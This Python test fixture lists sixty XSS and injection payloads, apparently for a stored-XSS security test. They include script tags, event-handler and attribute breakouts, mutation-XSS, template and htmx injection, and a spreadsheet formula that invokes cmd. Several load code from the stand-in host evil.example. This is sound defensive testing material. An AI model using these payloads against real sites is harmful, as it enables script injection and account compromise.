"""Sixty texts that become markup, code or a formula wherever somebody forgets to escape them.

Each calls `xss()`, leads to evil.example, or makes an element or attribute whose name holds "xss": none of that is on
a page of ours. `tests/security/test_stored_xss.py` stores them everywhere and looks for them in a browser.
"""

TAGS = (
    "<script>xss()</script>",
    "<ScRiPt src=//evil.example/xss></sCrIpT>",
    "<script\x0bdata-xss>xss()</script\x0b>",
    "</title><xss-mark>a</xss-mark>",
    "</textarea><xss-mark>b</xss-mark>",
    "</td></tr></table><xss-mark>d</xss-mark>",
    "--><xss-mark>e</xss-mark><!--",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<object data=javascript:xss() data-xss></object>",
    "<base href=//evil.example/ data-xss>",
    "<meta http-equiv=refresh content='0;url=//evil.example/xss' data-xss>",
    "<link rel=stylesheet href=//evil.example/xss.css data-xss>",
    "<form action=//evil.example/xss data-xss><button>x</button></form>",
)
ATTRIBUTES = (
    '" data-xss="1" onmouseover="xss()',
    "' data-xss='1' onfocus='xss()' autofocus='",
    '" autofocus onfocus=xss() data-xss="',
    "` data-xss=` onmouseover=`xss()",
    " data-xss=1 onpointerenter=xss() ",
    '"><img src=x onerror=xss() data-xss>',
    "'><xss-mark tabindex=1 onfocus=xss() autofocus>",
    '"/><xss-mark/x="',
)
EVENTS = (
    "<img src=x onerror=xss() data-xss>",
    "<body onload=xss() data-xss>",
    "<details open ontoggle=xss() data-xss>x</details>",
    "<input autofocus onfocus=xss() data-xss>",
    "<video><source onerror=xss() data-xss></video>",
    "<xss-mark onanimationstart=xss() style=animation-name:x>",
)
ADDRESSES = (
    "javascript:xss()",
    "JaVaScRiPt:xss()//",
    "java\tscript:xss()",
    "\x01javascript:xss()",
    "data:text/html,<script>parent.xss()</script>",
    "<a href=javascript:xss() data-xss>x</a>",
)
IMAGES = (
    "<svg onload=xss() data-xss></svg>",
    "</text></svg><svg onload=xss() data-xss>",
    "<svg><script>xss()</script></svg>",
    "<svg><use href=data:image/svg+xml,x data-xss></use></svg>",
    "<svg><a xlink:href=javascript:xss() data-xss><text y=9>x</text></a></svg>",
    "]]></style></svg><xss-mark>f</xss-mark>",
)
MUTATED = (
    "<svg></p><style><a id='</style><img src=x onerror=xss() data-xss>'>",
    "<math><mi><table><mglyph><style><!--</style><img title='--><img src=x onerror=xss() data-xss>'>",
    "<noscript><p title='</noscript><img src=x onerror=xss() data-xss>'></noscript>",
    "&lt;img src=x onerror=xss() data-xss&gt;",
    "&#60;xss-mark&#62;",
)
IN_SCRIPTS = (
    "</script><script>xss()</script>",
    '";xss();//',
    "'-xss()-'",
    '\\";xss();//\u2028xss()',
    "${xss()}",
)
TEMPLATES = ("{{ 7|add:7 }}{% load xss %}", "{{constructor.constructor('xss()')()}}")
HTMX = (
    "<div hx-get=//evil.example/xss hx-trigger=load data-xss></div>",
    "<div hx-on::load=xss() data-hx-on:load=xss() hx-on=load:xss()></div>",
)
STYLES = (
    "</style><style>@import '//evil.example/xss.css'</style>",
    "x:expression(xss());background:url(//evil.example/xss)",
)
UNICODE = (
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "\u202e>knarm-ssx<\u202c<xss\u200b-mark>",
    "<\ufeffscript>xss()</script>",
)
FORMULAS = ('=HYPERLINK("//evil.example/xss","x")', "@SUM(1+1)*cmd|' /C xss'!A0")

CLASSES = {
    "tags": TAGS,
    "attributes": ATTRIBUTES,
    "events": EVENTS,
    "addresses": ADDRESSES,
    "images": IMAGES,
    "mutated": MUTATED,
    "in scripts": IN_SCRIPTS,
    "templates": TEMPLATES,
    "htmx": HTMX,
    "styles": STYLES,
    "unicode": UNICODE,
    "formulas": FORMULAS,
}
PAYLOADS = tuple(one for some in CLASSES.values() for one in some)
